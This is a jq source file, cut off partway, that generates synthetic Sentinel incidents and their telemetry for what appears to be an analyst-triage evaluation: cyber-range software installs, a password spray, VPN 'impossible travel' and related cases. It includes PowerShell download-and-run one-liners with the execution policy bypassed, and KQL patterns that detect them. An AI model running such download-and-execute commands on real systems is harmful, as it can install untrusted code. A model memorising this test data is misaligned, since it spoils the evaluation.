# incidents.jq: the fourteen incidents, each with the evidence behind it.
# examples/eval/ holds what a careful analyst should conclude about each;
# examples/workspace/README.md tells the stories.
include "lib";
include "catalog";
include "model";
include "sentinel";

# The analytics rules' queries, as their alerts quote them.
def q_malicious_powershell: "let lookback = 1h;
let downloads = DeviceProcessEvents
| where TimeGenerated > ago(lookback)
| where FileName in~ (\"powershell.exe\", \"pwsh.exe\")
| where ProcessCommandLine has_any (\"Invoke-WebRequest\", \"iwr \", \"DownloadFile\", \"DownloadString\", \"Start-BitsTransfer\")
| where ProcessCommandLine has_any (\"-ExecutionPolicy Bypass\", \"-ep bypass\", \"-exec bypass\")
| where AccountSid != \"S-1-5-18\";
downloads
| join kind=leftouter (DeviceNetworkEvents
    | where TimeGenerated > ago(lookback)
    | project DeviceId, InitiatingProcessId, RemoteIP, RemoteUrl) on DeviceId, $left.ProcessId == $right.InitiatingProcessId
| join kind=leftouter (DeviceFileEvents
    | where TimeGenerated > ago(lookback) and ActionType == \"FileCreated\"
    | project DeviceId, InitiatingProcessId, CreatedFile = FolderPath, CreatedFileName = FileName, CreatedSHA256 = SHA256) on DeviceId, $left.ProcessId == $right.InitiatingProcessId
| extend Url = extract(@\"(https?://[^\\s'\\\"]+)\", 1, ProcessCommandLine)
| project TimeGenerated, DeviceName, AccountDomain, AccountName, AccountSid, ProcessId, ProcessCommandLine, InitiatingProcessFileName, InitiatingProcessId, RemoteIP, Url, CreatedFile, CreatedFileName, CreatedSHA256";

# --- 357335: the mission ---------------------------------------------------
#
# akshita, the admin of her cyber-range VM, opens a command prompt and runs
# the range's install one-liner for 7-Zip 24.08 from the range's storage
# account.  The detection is right to fire and the activity is expected.

def seven_zip_installer: synth("C:\\ProgramData\\7z2408-x64.exe"; "Igor Pavlov"; "7-Zip";
	"24.08"; "7-Zip Installer"; "7zipInstall.exe"; 1637888; "Unknown"; "Unsigned");

def mission_cmd: "powershell.exe -ExecutionPolicy Bypass -NoProfile -Command \"Invoke-WebRequest -Uri 'https://sacyberrange00.blob.core.windows.net/vm-applications/7z2408-x64.exe' -OutFile C:\\ProgramData\\7z2408-x64.exe; Start-Process 'C:\\programdata\\7z2408-x64.exe' -ArgumentList '/S' -Wait\"";

def inc_357335:
	host("akshita-vm") as $h
	| range_admin(range_vms[0]) as $a
	| explorer_proc($h; at("01-15 10:41:04.218"); $a; 4120) as $explorer
	| proc($h; at("01-15 11:01:52.318"); 7312; bin("cmd"); "\"C:\\Windows\\system32\\cmd.exe\" "; $a; $explorer) as $cmd
	| proc($h; at("01-15 11:01:52.351"); 7320; bin("conhost"); "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1"; $a; $cmd) as $conhost
	| proc($h; at("01-15 11:02:13.481230"); 6904; bin("powershell"); mission_cmd; $a; $cmd) as $ps
	| seven_zip_installer as $inst
	| proc($h; at("01-15 11:02:16.940117"); 5528; $inst; "\"C:\\programdata\\7z2408-x64.exe\" /S"; $a; $ps) as $setup
	| proc($h; at("01-15 11:03:41.602"); 2264; bin("sevenzip_fm"); "\"C:\\Program Files\\7-Zip\\7zFM.exe\" "; $a; $explorer) as $fm
	| proc($h; at("01-15 10:44:20.775"); 6148; bin("msedge"); "\"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe\" --single-argument https://portal.azure.com/"; $a; $explorer) as $edge
	| {id: uuid_of("alert:357335"), name: "Malicious PowerShell Execution",
	   desc: "PowerShell ran with the execution policy bypassed and downloaded content from the internet (Invoke-WebRequest, DownloadString, DownloadFile). Common in malware droppers and hands-on-keyboard intrusions; also in admin one-liners.",
	   severity: "High", kind: "scheduled", rule_id: uuid_of("rule:Malicious PowerShell Execution"),
	   start: $ps.t, end: $ps.t, time: at("01-15 11:07:29.114"),
	   tactics: ["Execution"], techniques: ["T1059"], subtechniques: [],
	   compromised: "akshita-vm",
	   entities: [
	     {"$id": "2", HostName: "akshita-vm", OSFamily: "Windows", IsDomainJoined: false, Type: "host"},
	     {"$id": "3", Name: "akshita", NTDomain: "akshita-vm", Sid: $a.sid, IsDomainJoined: false, Host: {"$ref": "2"}, Type: "account"},
	     {"$id": "4", ProcessId: "6904", CommandLine: mission_cmd, ElevationToken: "Default",
	      CreationTimeUtc: ($ps.t | ts),
	      ImageFile: {"$id": "5", Directory: "C:\\Windows\\System32\\WindowsPowerShell\\v1.0", Name: "powershell.exe",
	          FileHashes: [{"$id": "6", Algorithm: "SHA256", Value: bin("powershell").sha256, Type: "filehash"}], Type: "file"},
	      ParentProcess: {"$id": "7", ProcessId: "7312", CommandLine: "\"C:\\Windows\\system32\\cmd.exe\" ",
	          ImageFile: {"$id": "8", Directory: "C:\\Windows\\System32", Name: "cmd.exe", Type: "file"},
	          Host: {"$ref": "2"}, Type: "process"},
	      Account: {"$ref": "3"}, Host: {"$ref": "2"}, Type: "process"},
	     {"$ref": "5"}, {"$ref": "7"},
	     {"$id": "9", Directory: "C:\\ProgramData", Name: "7z2408-x64.exe",
	      FileHashes: [{"$id": "10", Algorithm: "SHA256", Value: $inst.sha256, Type: "filehash"},
	                   {"$id": "13", Algorithm: "SHA1", Value: $inst.sha1, Type: "filehash"},
	                   {"$id": "14", Algorithm: "MD5", Value: $inst.md5, Type: "filehash"}], Type: "file"},
	     {"$ref": "10"}, {"$ref": "13"}, {"$ref": "14"},
	     {"$id": "11", Address: range_storage.ip, Type: "ip"},
	     {"$id": "12", Url: range_blob("7z2408-x64.exe"), Type: "url"}],
	   ext: (scheduled_ext("357335"; "Malicious PowerShell Execution"; q_malicious_powershell; "01:00:00"; 1;
	     {DeviceName: ["akshita-vm"], AccountName: ["akshita"], RemoteUrl: ["sacyberrange00.blob.core.windows.net"]})
	     + {"Query Start Time UTC": "2026-01-15 10:07:28Z", "Query End Time UTC": "2026-01-15 11:07:28Z"})} as $alert
	| {number: 357335, title: "Malicious PowerShell Execution",
	   desc: $alert.desc, severity: "High", provider: "Azure Sentinel",
	   created: at("01-15 11:07:31.204"), first: $ps.t, last: $ps.t,
	   tactics: ["Execution"], techniques: ["T1059"],
	   alerts: [$alert], rules: ["Malicious PowerShell Execution"],
	   versions: [
	     {t: at("01-15 11:07:31.204"), status: "New", by: "Incident created from alert rule"},
	     {t: at("01-15 11:07:33.958"), status: "New", by: "Automation rule - Tag cyber-range incidents",
	      labels: [{labelName: "cyber-range", labelType: "User"}]},
	     {t: at("01-15 11:08:12.407"), status: "New", by: "Playbook - Enrich-AzureVmOwner",
	      labels: [{labelName: "cyber-range", labelType: "User"}],
	      comments: [comment(at("01-15 11:08:12"); "sentinel-automation";
	        "Enrich-AzureVmOwner: akshita-vm is an Azure VM in resource group rg-cyber-range-students (subscription Cyber Range). Tags: Owner=akshita, Purpose=cyber-range-student, Created=2026-01-12. MDE device group: Cyber-Range.")]}]} as $inc
	| (dle($h; at("01-15 10:40:50.336"); {type: "RemoteInteractive", acct: $a, protocol: "Negotiate",
	       remote_ip: "49.36.187.212", remote_port: 51877, local_admin: true}; lsass_proc($h)),
	   logon_rows($h; $explorer.t; $a; 4120),
	   dpe($edge),
	   dne($edge; at("01-15 10:44:21.903"); {rip: "20.37.156.227", rport: 443, rurl: "portal.azure.com", lport: 49988}),
	   dne($edge; at("01-15 10:46:02.118"); {rip: "23.45.229.112", rport: 443, rurl: "learn.microsoft.com", lport: 50012}),
	   dpe($cmd), dpe($conhost), dpe($ps),
	   dne($ps; at("01-15 11:02:14.102556"); {rip: range_storage.ip, rport: 443, rurl: range_storage.url, lport: 50213}),
	   dfe($ps; at("01-15 11:02:15.877301"); $inst | {name, path, sha1, sha256, md5, size}; {}),
	   dpe($setup),
	   ([["7-zip.dll", 99328], ["7-zip32.dll", 74240], ["7z.dll", 1915904], ["7z.exe", 571904],
	     ["7z.sfx", 218624], ["7zCon.sfx", 203264], ["7zFM.exe", 1010176], ["7zG.exe", 720896],
	     ["Uninstall.exe", 15872], ["7-zip.chm", 116947], ["descript.ion", 541],
	     ["History.txt", 63402], ["License.txt", 5924], ["readme.txt", 1897]]
	    | to_entries[] | .key as $i | .value as [$f, $sz]
	    | (if $f == "7zFM.exe" then bin("sevenzip_fm") | {name, path, sha1, sha256, md5, size}
	       else file_of("C:\\Program Files\\7-Zip\\\($f)"; $sz; "24.08") end) as $file
	    | dfe($setup; $setup.t + 310000 + $i * 187000; $file; {})),
	   dpe($fm),
	   alert_row($alert; $alert.time; "New"),
	   incident_rows($inc));


# --- 357324: the same one-liner, another installer, closed ---------------
#
# marcus installs Notepad++ 8.6.9 from the range storage account the same
# way; an analyst closed it as a benign positive five days ago.

def npp_installer: synth("C:\\ProgramData\\npp.8.6.9.Installer.x64.exe"; "Notepad++"; "Notepad++";
	"8.6.9"; "Notepad++ : a free (GNU) source code editor"; "npp.8.6.9.Installer.x64.exe"; 5003912; "Unknown"; "Valid");

def npp_cmd: "powershell.exe -ExecutionPolicy Bypass -NoProfile -Command \"Invoke-WebRequest -Uri 'https://sacyberrange00.blob.core.windows.net/vm-applications/npp.8.6.9.Installer.x64.exe' -OutFile C:\\ProgramData\\npp.8.6.9.Installer.x64.exe; Start-Process 'C:\\ProgramData\\npp.8.6.9.Installer.x64.exe' -ArgumentList '/S' -Wait\"";

def inc_357324:
	host("marcus-vm") as $h
	| range_admin(range_vms[1]) as $a
	| explorer_proc($h; at("01-10 14:10:20.514"); $a; 3856) as $explorer
	| proc($h; at("01-10 14:19:48.090"); 6220; bin("cmd"); "\"C:\\Windows\\system32\\cmd.exe\" "; $a; $explorer) as $cmd
	| proc($h; at("01-10 14:19:48.127"); 6232; bin("conhost"); "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1"; $a; $cmd) as $conhost
	| proc($h; at("01-10 14:20:31.662810"); 7004; bin("powershell"); npp_cmd; $a; $cmd) as $ps
	| npp_installer as $inst
	| proc($h; at("01-10 14:20:34.318"); 2916; $inst; "\"C:\\ProgramData\\npp.8.6.9.Installer.x64.exe\" /S"; $a; $ps) as $setup
	| proc($h; at("01-10 14:22:10.441"); 5140; bin("npp"); "\"C:\\Program Files\\Notepad++\\notepad++.exe\" "; $a; $explorer) as $npp
	| {id: uuid_of("alert:357324"), name: "Malicious PowerShell Execution",
	   desc: "PowerShell ran with the execution policy bypassed and downloaded content from the internet (Invoke-WebRequest, DownloadString, DownloadFile). Common in malware droppers and hands-on-keyboard intrusions; also in admin one-liners.",
	   severity: "High", kind: "scheduled", rule_id: uuid_of("rule:Malicious PowerShell Execution"),
	   start: $ps.t, end: $ps.t, time: at("01-10 14:25:29.870"),
	   tactics: ["Execution"], techniques: ["T1059"], subtechniques: [],
	   compromised: "marcus-vm",
	   entities: [
	     {"$id": "2", HostName: "marcus-vm", OSFamily: "Windows", IsDomainJoined: false, Type: "host"},
	     {"$id": "3", Name: "marcus", NTDomain: "marcus-vm", Sid: $a.sid, IsDomainJoined: false, Host: {"$ref": "2"}, Type: "account"},
	     {"$id": "4", ProcessId: "7004", CommandLine: npp_cmd, ElevationToken: "Default",
	      CreationTimeUtc: ($ps.t | ts),
	      ImageFile: {"$id": "5", Directory: "C:\\Windows\\System32\\WindowsPowerShell\\v1.0", Name: "powershell.exe",
	          FileHashes: [{"$id": "6", Algorithm: "SHA256", Value: bin("powershell").sha256, Type: "filehash"}], Type: "file"},
	      ParentProcess: {"$id": "7", ProcessId: "6220", CommandLine: "\"C:\\Windows\\system32\\cmd.exe\" ",
	          ImageFile: {"$id": "8", Directory: "C:\\Windows\\System32", Name: "cmd.exe", Type: "file"},
	          Host: {"$ref": "2"}, Type: "process"},
	      Account: {"$ref": "3"}, Host: {"$ref": "2"}, Type: "process"},
	     {"$ref": "5"}, {"$ref": "7"},
	     {"$id": "9", Directory: "C:\\ProgramData", Name: "npp.8.6.9.Installer.x64.exe",
	      FileHashes: [{"$id": "10", Algorithm: "SHA256", Value: $inst.sha256, Type: "filehash"}], Type: "file"},
	     {"$ref": "10"},
	     {"$id": "11", Address: range_storage.ip, Type: "ip"},
	     {"$id": "12", Url: range_blob("npp.8.6.9.Installer.x64.exe"), Type: "url"}],
	   ext: (scheduled_ext("357324"; "Malicious PowerShell Execution"; q_malicious_powershell; "01:00:00"; 1;
	     {DeviceName: ["marcus-vm"], AccountName: ["marcus"], RemoteUrl: ["sacyberrange00.blob.core.windows.net"]})
	     + {"Query Start Time UTC": "2026-01-10 13:25:28Z", "Query End Time UTC": "2026-01-10 14:25:28Z"})} as $alert
	| ("Range student marcus installed Notepad++ 8.6.9 on marcus-vm from the range storage account (sacyberrange00, container vm-applications) with the one-liner from the range's software-install instructions. Confirmed with marcus on Teams. The installer's SHA-256 matches the copy in the container. Suggest tuning the rule to exclude sacyberrange00 downloads on Cyber-Range devices.") as $why
	| {number: 357324, title: "Malicious PowerShell Execution",
	   desc: $alert.desc, severity: "High", provider: "Azure Sentinel",
	   created: at("01-10 14:25:31.552"), first: $ps.t, last: $ps.t,
	   tactics: ["Execution"], techniques: ["T1059"],
	   alerts: [$alert], rules: ["Malicious PowerShell Execution"],
	   versions: [
	     {t: at("01-10 14:25:31.552"), status: "New", by: "Incident created from alert rule"},
	     {t: at("01-10 14:25:34.107"), status: "New", by: "Automation rule - Tag cyber-range incidents",
	      labels: [{labelName: "cyber-range", labelType: "User"}]},
	     {t: at("01-10 14:58:02.336"), status: "Active", owner: analyst("alex.rivera"), by: "alex.rivera@contoso.com",
	      labels: [{labelName: "cyber-range", labelType: "User"}]},
	     {t: at("01-10 16:05:47.913"), status: "Closed", owner: analyst("alex.rivera"), by: "alex.rivera@contoso.com",
	      classification: "BenignPositive", reason: "SuspiciousButExpected", comment: $why,
	      closed: at("01-10 16:05:47.913"),
	      labels: [{labelName: "cyber-range", labelType: "User"}],
	      comments: [comment(at("01-10 16:05:40"); "alex.rivera"; $why)]}]} as $inc
	| (dle($h; at("01-10 14:10:05.220"); {type: "RemoteInteractive", acct: $a, protocol: "Negotiate",
	       remote_ip: "71.232.14.90", remote_port: 50122, local_admin: true}; lsass_proc($h)),
	   logon_rows($h; $explorer.t; $a; 3856),
	   dpe($cmd), dpe($conhost), dpe($ps),
	   dne($ps; at("01-10 14:20:32.201"); {rip: range_storage.ip, rport: 443, rurl: range_storage.url, lport: 49871}),
	   dfe($ps; at("01-10 14:20:33.950"); $inst | {name, path, sha1, sha256, md5, size}; {}),
	   dpe($setup),
	   ([["notepad++.exe", 6441368], ["Scintilla.dll", 1602048], ["Lexilla.dll", 1375232],
	     ["langs.model.xml", 520761], ["stylers.model.xml", 218842], ["contextMenu\\NppShell.dll", 689152],
	     ["uninstall.exe", 262912]]
	    | to_entries[] | .key as $i | .value as [$f, $sz]
	    | (if $f == "notepad++.exe" then bin("npp") | {name, path, sha1, sha256, md5, size}
	       else file_of("C:\\Program Files\\Notepad++\\\($f)"; $sz; "8.6.9") end) as $file
	    | dfe($setup; $setup.t + 420000 + $i * 233000; $file; {})),
	   dpe($npp),
	   alert_row($alert; $alert.time; "New"),
	   alert_row($alert; at("01-10 16:05:49.010"); "Resolved"),
	   incident_rows($inc));

# --- 357322: a password spray with one success ---------------------------

def spray_place: {city: "", state: "", country: "RU", lat: 55.7386, lon: 37.6068, asn: 34665};

def spray_targets: ["dana.whitfield", "tom.becker", "wei.zhang", "maria.santos", "liam.murphy",
	"kevin.obrien", "grace.liu", "raj.patel", "sophie.martin", "hannah.kim", "ben.carter",
	"alex.rivera", "olivia.brown", "noah.wilson", "emma.davis", "lucas.moore", "ava.taylor",
	"ethan.anderson", "mia.thomas", "james.jackson", "isabella.white", "daniel.harris",
	"jorge.alvarez", "henry.thompson", "amelia.garcia", "jack.martinez"];

def inc_357322:
	at("01-09 05:40:12.310") as $t0
	| corp_acct("jorge.alvarez") as $jorge
	| [spray_targets | to_entries[]
	    | .key as $i | .value as $u
	    | ($t0 + $i * 38000000 + int_of("spray:" + $u; 9000000)) as $t
	    | {t: $t, user: corp_acct($u),
	       result: (if $u == "jorge.alvarez" then "0" elif $u == "kevin.obrien" then "50053" else "50126" end)}] as $tries
	| ($tries | map(select(.user.name == "jorge.alvarez"))[0].t) as $hit
	| {id: uuid_of("alert:357322"), name: "Password spray attack against Azure AD application",
	   desc: "Identifies evidence of password spray activity against Azure AD applications by looking for failures from multiple accounts from the same IP address within a time window. If the number of accounts breaches the threshold just once, all failures from the IP address within the time range are brought into the result. Details on whether there were successful authentications by the IP address within the time window are also included.",
	   severity: "Medium", kind: "scheduled", rule_id: uuid_of("rule:Password spray attack against Azure AD application"),
	   start: $t0, end: ($tries[-1].t), time: at("01-09 06:12:04.550"),
	   tactics: ["CredentialAccess"], techniques: ["T1110"], subtechniques: ["T1110.003"],
	   compromised: "jorge.alvarez@contoso.com",
	   entities: [
	     {"$id": "2", Address: spray_ip, Location: {CountryCode: "RU", CountryName: "Russia", Asn: 34665}, Type: "ip"},
	     {"$id": "3", Name: "jorge.alvarez", UPNSuffix: upn_domain, AadUserId: $jorge.object_id, Type: "account"}],
	   ext: (scheduled_ext("357322"; "Password spray attack against Azure AD application";
	     "let timeBin = 15m;\nlet failureThreshold = 10;\nSigninLogs\n| where TimeGenerated > ago(1d)\n| where ResultType in (\"50126\", \"50053\", \"50034\")\n| summarize FailedUsers = dcount(UserPrincipalName), Failures = count(), Users = make_set(UserPrincipalName, 100) by IPAddress, bin(TimeGenerated, timeBin)\n| where FailedUsers >= failureThreshold\n| join kind=leftouter (SigninLogs | where ResultType == \"0\" | summarize SuccessUsers = make_set(UserPrincipalName) by IPAddress) on IPAddress";
	     "1.00:00:00"; 1; {IPAddress: [spray_ip], FailedUsers: ["25"], SuccessUsers: ["jorge.alvarez@contoso.com"]}))} as $alert
	| {number: 357322, title: "Password spray attack against Azure AD application",
	   desc: $alert.desc, severity: "Medium", provider: "Azure Sentinel",
	   created: at("01-09 06:12:06.118"), first: $t0, last: ($tries[-1].t),
	   tactics: ["CredentialAccess"], techniques: ["T1110"],
	   alerts: [$alert], rules: ["Password spray attack against Azure AD application"],
	   versions: [
	     {t: at("01-09 06:12:06.118"), status: "New", by: "Incident created from alert rule"},
	     {t: at("01-09 13:41:27.402"), status: "Active", owner: analyst("priya.nair"), by: "priya.nair@contoso.com"}]} as $inc
	| (($tries[] | signin({t: .t, user: .user, app: apps.aad_ps, resource: resources.graph,
	      ip: spray_ip, place: spray_place, result: .result, client: "Mobile Apps and Desktop clients",
	      ua: ua.python, auth: "single", ca: (if .result == "0" then "notApplied" else "notApplied" end),
	      auth_details: [{authenticationStepDateTime: (.t | ts0), authenticationMethod: "Password",
	          succeeded: (.result == "0"), authenticationStepResultDetail: (if .result == "0" then "Correct password" else "Invalid username or password or Invalid on-premise username or password." end),
	          authenticationStepRequirement: "Primary authentication"}],
	      status_detail: (if .result == "0" then "MFA requirement skipped due to Conditional Access policy exclusion" else null end)})),
	   # Names that do not exist in the directory.
	   (["admin", "administrator", "test", "helpdesk", "scanner"] | to_entries[]
	    | signin({t: ($t0 + 200000000 + .key * 61000000), user: {name: .value, upn: "\(.value)@\(upn_domain)", display: null, object_id: "00000000-0000-0000-0000-000000000000"},
	        app: apps.aad_ps, resource: resources.graph, ip: spray_ip, place: spray_place, result: "50034",
	        client: "Mobile Apps and Desktop clients", ua: ua.python, auth: "single"})),
	   # What the attacker did with jorge's password.
	   signin({t: ($hit + 84000000), user: $jorge, app: apps.azure_cli, resource: resources.graph,
	       ip: spray_ip, place: spray_place, result: "0", client: "Mobile Apps and Desktop clients",
	       ua: ua.python, auth: "single", ca: "notApplied",
	       status_detail: "MFA requirement skipped due to Conditional Access policy exclusion"}),
	   signin({t: ($hit + 392000000), user: $jorge, app: apps.azure_cli, resource: resources.arm,
	       ip: spray_ip, place: spray_place, result: "0", client: "Mobile Apps and Desktop clients",
	       ua: ua.python, auth: "single", ca: "notApplied",
	       status_detail: "MFA requirement skipped due to Conditional Access policy exclusion"}),
	   alert_row($alert; $alert.time; "New"),
	   incident_rows($inc));

# --- 357323: "impossible travel" that is the corporate VPN -------------------

def inc_357323:
	corp_acct("raj.patel") as $raj
	| work_device("raj.patel") as $dev
	| homes.seattle as $home
	| at("01-09 16:02:37.114") as $t1
	| at("01-09 16:31:05.870") as $t2
	| {id: uuid_of("alert:357323"), name: "Impossible travel activity",
	   desc: "The user Raj Patel (raj.patel@contoso.com) performed activities from distant locations within a time period that is shorter than the expected travel time between the two locations. Activity from US (Seattle) and DE (Frankfurt am Main) within 28 minutes.",
	   severity: "Medium", kind: "mcas", alert_type: "MCAS_ALERT_ANUBIS_DETECTION_IMPOSSIBLE_TRAVEL",
	   vendor_id: "c9e1f5a2b7d3e8f4a6c0b1d2", link: "https://security.microsoft.com/alerts/mc\(uuid_of("mcas:357323"))",
	   start: $t1, end: $t2, time: at("01-09 16:48:51.300"),
	   tactics: ["InitialAccess"], techniques: ["T1078"], subtechniques: ["T1078.004"],
	   compromised: "raj.patel@contoso.com",
	   entities: [
	     {"$id": "2", Name: "raj.patel", UPNSuffix: upn_domain, AadUserId: $raj.object_id, DisplayName: "Raj Patel", Type: "account"},
	     {"$id": "3", Address: $home.ip, Location: {CountryCode: "US", State: "Washington", City: "Seattle", Asn: 7922}, Type: "ip"},
	     {"$id": "4", Address: vpn_egress.ip, Location: {CountryCode: "DE", State: "Hesse", City: "Frankfurt am Main", Asn: 8075}, Type: "ip"},
	     {"$id": "5", AppId: 20893, Name: "Microsoft Exchange Online", InstanceName: "Microsoft Exchange Online", Type: "cloud-application"}],
	   ext: {"Detection Source": "Microsoft Defender for Cloud Apps", "Activity count": "2",
	     "First location": "Seattle, US", "Second location": "Frankfurt am Main, DE", "Time between activities": "00:28:28"}} as $alert
	| {number: 357323, title: "Impossible travel activity involving one user",
	   desc: "", severity: "Medium", provider: "Microsoft XDR", provider_id: "41877",
	   created: at("01-09 16:52:12.640"), first: $t1, last: $t2,
	   tactics: ["InitialAccess"], techniques: ["T1078"],
	   alerts: [$alert], rules: [],
	   versions: [
	     {t: at("01-09 16:52:12.640"), status: "New", by: "Microsoft XDR"},
	     {t: at("01-12 14:20:09.531"), status: "Active", owner: analyst("alex.rivera"), by: "alex.rivera@contoso.com"}]} as $inc
	| (signin({t: $t1, user: $raj, app: apps.exo, resource: resources.exo, ip: $home.ip, place: $home,
	      client: "Mobile Apps and Desktop clients", ua: ua.native, auth: "multi", device: $dev,
	      mfa: {authMethod: "Previously satisfied", authDetail: null}}),
	   signin({t: $t2, user: $raj, app: apps.teams, resource: resources.teams, ip: vpn_egress.ip, place: vpn_egress,
	      client: "Mobile Apps and Desktop clients", ua: ua.native, auth: "multi", device: $dev,
	      named: vpn_egress.named, mfa: {authMethod: "Previously satisfied", authDetail: null}}),
	   signin({t: ($t2 + 41000000), user: $raj, app: apps.office_home, resource: resources.graph, ip: vpn_egress.ip, place: vpn_egress,
	      ua: ua.edge, auth: "multi", device: $dev, named: vpn_egress.named,
	      mfa: {authMethod: "Previously satisfied", authDetail: null}}),
	   alert_row($alert; $alert.time; "New"),
	   alert_row($alert; at("01-12 14:20:10.004"); "InProgress"),
	   incident_rows($inc));

# --- 357325: an unfamiliar place, while travelling -----------------------

def lisbon: {ip: "85.243.117.40", city: "Lisbon", state: "Lisboa", country: "PT", lat: 38.7223, lon: -9.1393, asn: 3243};

def inc_357325:
	corp_acct("sophie.martin") as $s
	| work_device("sophie.martin") as $dev
	| at("01-12 08:33:19.502") as $t
	| {id: uuid_of("alert:357325"), name: "Unfamiliar sign-in properties",
	   desc: "The following properties of this sign-in are unfamiliar for the given user: ASN, Browser, Device, IP, Location, EASId, TenantIPsubnet",
	   severity: "Low", kind: "ipc", alert_type: "UnfamiliarLocation",
	   vendor_id: uuid_of("ipc:357325"),
	   start: $t, end: $t, time: at("01-12 08:46:02.118"),
	   tactics: ["InitialAccess"], techniques: [], subtechniques: [],
	   compromised: "sophie.martin@contoso.com",
	   entities: [
	     {"$id": "2", Name: "sophie.martin", UPNSuffix: upn_domain, AadUserId: $s.object_id, DisplayName: "Sophie Martin", Type: "account"},
	     {"$id": "3", Address: lisbon.ip, Location: {CountryCode: "PT", State: "Lisboa", City: "Lisbon", Asn: 3243}, Type: "ip"}],
	   ext: {"Detection Source": "Microsoft Entra ID Protection", "Risk level": "low",
	     "Request Id": uuid_of("req:357325"), "Correlation Id": uuid_of("corr:357325")}} as $alert
	| {number: 357325, title: "Unfamiliar sign-in properties involving one user",
	   desc: "", severity: "Low", provider: "Microsoft XDR", provider_id: "41893",
	   created: at("01-12 08:49:40.227"), first: $t, last: $t,
	   tactics: ["InitialAccess"], techniques: [],
	   alerts: [$alert], rules: [],
	   versions: [{t: at("01-12 08:49:40.227"), status: "New", by: "Microsoft XDR"}]} as $inc
	| (signin({t: $t, user: $s, app: apps.office_home, resource: resources.graph, ip: lisbon.ip, place: lisbon,
	      ua: ua.edge, auth: "multi", device: $dev,
	      mfa: {authMethod: "Mobile app notification", authDetail: "MFA completed in Azure AD"},
	      auth_details: [
	        {authenticationStepDateTime: ($t | ts0), authenticationMethod: "Password", succeeded: true,
	         authenticationStepResultDetail: "Correct password", authenticationStepRequirement: "Primary authentication"},
	        {authenticationStepDateTime: ($t + 14000000 | ts0), authenticationMethod: "Mobile app notification", succeeded: true,
	         authenticationStepResultDetail: "MFA successfully completed", authenticationStepRequirement: "Multifactor authentication",
	         authenticationMethodDetail: "Number match"}],
	      risk: {during: "low", aggregated: "low", state: "atRisk", detail: "none", events: ["unfamiliarFeatures"]}}),
	   alert_row($alert; $alert.time; "New"),
	   incident_rows($inc));

# --- 357326: failures after a password change ----------------------------

def inc_357326:
	corp_acct("grace.liu") as $g
	| phone("grace.liu") as $ph
	| at("01-12 13:58:40.318") as $change
	| [0, 52, 118, 171, 260, 395, 540, 702] | map(at("01-12 14:06:12.400") + . * 1000000) as $fails
	| at("01-12 14:22:31.916") as $ok
	| {id: uuid_of("alert:357326"), name: "Multiple failed sign-ins for a single user",
	   desc: "Five or more failed interactive sign-ins for one user within 20 minutes. May indicate password guessing against the account.",
	   severity: "Medium", kind: "scheduled", rule_id: uuid_of("rule:Multiple failed sign-ins for a single user"),
	   start: $fails[0], end: $fails[-1], time: at("01-12 14:33:02.770"),
	   tactics: ["CredentialAccess"], techniques: ["T1110"], subtechniques: ["T1110.001"],
	   compromised: "grace.liu@contoso.com",
	   entities: [
	     {"$id": "2", Name: "grace.liu", UPNSuffix: upn_domain, AadUserId: $g.object_id, Type: "account"},
	     {"$id": "3", Address: office_egress.ip, Type: "ip"}],
	   ext: scheduled_ext("357326"; "Multiple failed sign-ins for a single user";
	     "SigninLogs\n| where TimeGenerated > ago(1h)\n| where ResultType != \"0\" and ResultType in (\"50126\", \"50053\")\n| summarize Failures = count(), IPs = make_set(IPAddress), Apps = make_set(AppDisplayName), FirstFailure = min(TimeGenerated), LastFailure = max(TimeGenerated) by UserPrincipalName, bin(TimeGenerated, 20m)\n| where Failures >= 5";
	     "01:00:00"; 1; {UserPrincipalName: ["grace.liu@contoso.com"], Failures: ["8"], IPs: [office_egress.ip]})} as $alert
	| {number: 357326, title: "Multiple failed sign-ins for a single user",
	   desc: $alert.desc, severity: "Medium", provider: "Azure Sentinel",
	   created: at("01-12 14:35:11.093"), first: $fails[0], last: $fails[-1],
	   tactics: ["CredentialAccess"], techniques: ["T1110"],
	   alerts: [$alert], rules: ["Multiple failed sign-ins for a single user"],
	   versions: [
	     {t: at("01-12 14:35:11.093"), status: "New", by: "Incident created from alert rule"},
	     {t: at("01-12 15:02:44.610"), status: "Active", owner: analyst("priya.nair"), by: "priya.nair@contoso.com"}]} as $inc
	| (audit({t: $change, op: "Change password (self-service)", category: "UserManagement",
	      service: "Self-service Password Management", by: audit_user($g; office_egress.ip),
	      targets: [audit_target_user($g)], identity: "Grace Liu", optype: "Update",
	      details: [{key: "User-Agent", value: ua.edge}]}),
	   audit({t: ($change + 1800000), op: "Change user password", category: "UserManagement",
	      by: audit_user($g; null), targets: [audit_target_user($g)], identity: "Grace Liu", optype: "Update"}),
	   ($fails[] | signin({t: ., user: $g, app: apps.outlook_mobile, resource: resources.exo, ip: office_egress.ip,
	      place: office_egress, named: office_egress.named, result: "50126", client: "Mobile Apps and Desktop clients",
	      ua: ua.outlook_ios, auth: "single", device: $ph,
	      auth_details: [{authenticationStepDateTime: (. | ts0), authenticationMethod: "Password", succeeded: false,
	          authenticationStepResultDetail: "Invalid username or password or Invalid on-premise username or password.",
	          authenticationStepRequirement: "Primary authentication"}]})),
	   signin({t: $ok, user: $g, app: apps.outlook_mobile, resource: resources.exo, ip: office_egress.ip,
	      place: office_egress, named: office_egress.named, client: "Mobile Apps and Desktop clients",
	      ua: ua.outlook_ios, auth: "multi", device: $ph,
	      mfa: {authMethod: "Mobile app notification", authDetail: "MFA completed in Azure AD"}}),
	   signin({t: ($change + 95000000), user: $g, app: apps.office_home, resource: resources.graph, ip: office_egress.ip,
	      place: office_egress, named: office_egress.named, ua: ua.edge, auth: "multi", device: work_device("grace.liu"),
	      mfa: {authMethod: "Previously satisfied", authDetail: null}}),
	   alert_row($alert; $alert.time; "New"),
	   incident_rows($inc));

# --- 357327: a known-bad hash --------------------------------------------
#
# tom.becker follows a link to an "invoice", opens the ZIP and runs what is
# inside: an infostealer whose SHA-256 is in the workspace's threat intel.

def stealer: synth("C:\\Users\\tom.becker\\AppData\\Local\\Temp\\Temp1_Invoice_2026-0113.zip\\Invoice_2026-0113.exe";
	"Adobe Inc."; "Adobe Acrobat Reader"; "24.5.20320.0"; "Adobe Acrobat Reader Invoice Viewer";
	"AcroRd32Info.exe"; 3914240; "Unknown"; "Unsigned");

def inc_357327:
	host("ws-eng-022") as $h
	| corp_acct("tom.becker") as $a
	| explorer_proc($h; at("01-13 13:21:44.102"); $a; 5204) as $explorer
